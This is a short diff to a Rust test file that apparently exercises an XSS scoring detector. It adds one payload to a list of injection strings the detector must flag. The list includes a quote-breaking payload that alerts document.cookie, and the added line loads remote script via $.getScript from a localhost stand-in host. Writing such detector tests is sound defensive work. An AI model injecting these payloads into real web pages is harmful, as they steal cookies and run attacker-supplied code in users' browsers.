@@ -566,6 +566,7 @@ fn sinks_called_optionally_or_through_call_and_apply() {
         "confirm.call(null,1)",
         "\";alert.apply(null,[document.cookie])//",
         "top.prompt.call(top,1)",
+        "x=>$.getScript('//127.0.0.1/x.js')",
     ] {
         assert!(s(p) >= 5, "{p} scored {}", s(p));
     }
